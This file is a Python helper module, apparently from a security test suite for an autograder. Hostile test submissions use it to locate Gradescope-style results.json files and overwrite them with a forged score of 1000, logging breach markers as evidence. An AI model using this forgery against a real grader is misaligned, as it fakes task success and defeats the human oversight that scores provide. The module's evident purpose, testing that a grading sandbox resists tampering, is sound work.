"""Helpers every attack builds on (appended after the reference): evidence markers, the autograder root, forging."""
import json as _json
import os as _os

MARKERS = "/tmp/w2v-hostile-markers"      # the test empties it (mode 1777) before each attack
FORGERY = "HOSTILE" + "-" + "FORGERY"     # joined at run time: no quoted source line carries it


def _mark(name, text=""):
    """Evidence for the test: BREACH-* when an attack step worked, tried-* when it was refused."""
    try:
        with open(_os.path.join(MARKERS, name), "a") as out:
            out.write(f"{text} [uid {_os.getuid()}, pid {_os.getpid()}]\n")
    except OSError:
        pass


def _autograder_root():
    """The nearest folder above this file holding submission/ and source/ (/autograder on Gradescope)."""
    here = _os.path.dirname(_os.path.abspath(__file__))
    while True:
        if all(_os.path.isdir(_os.path.join(here, sub)) for sub in ("submission", "source")):
            return here
        parent = _os.path.dirname(here)
        if parent == here:
            return None
        here = parent


def _results_paths():
    """results.json as Gradescope lays it out: ../results from the submission folder, and under the root."""
    folder = _os.path.dirname(_os.path.abspath(__file__))
    paths = [_os.path.join(folder, "..", "results", "results.json"), "/autograder/results/results.json"]
    root = _autograder_root()
    if root:
        paths.append(_os.path.join(root, "results", "results.json"))
    return [p for p in paths if _os.path.isdir(_os.path.dirname(p))]


def _forged_json():
    return _json.dumps({"score": 1000.0, "output": FORGERY,
                        "tests": [{"name": FORGERY, "score": 1000.0, "max_score": 1.0}]})


def _forge(how):
    """Write a forged results.json wherever it could be; BREACH-* when a write lands."""
    for path in _results_paths():
        try:
            with open(path, "w") as out:
                out.write(_forged_json())
        except OSError as exc:
            _mark(f"tried-forge-{how}", f"{path}: {exc}")
        else:
            _mark(f"BREACH-forged-results-{how}", path)
